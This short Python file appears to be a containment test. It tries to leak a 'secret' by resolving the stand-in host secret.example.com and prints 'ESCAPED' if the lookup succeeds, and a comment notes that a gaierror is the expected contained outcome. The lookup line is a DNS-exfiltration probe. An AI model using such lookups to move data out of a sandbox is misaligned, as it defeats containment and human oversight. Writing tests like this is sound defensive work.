"""Tries to send a secret out as a question to a name server.

An escape: a name of the world is resolved.
"""
# contained: gaierror

import socket

print("began")
print("ESCAPED", socket.getaddrinfo("secret.example.com", 80))
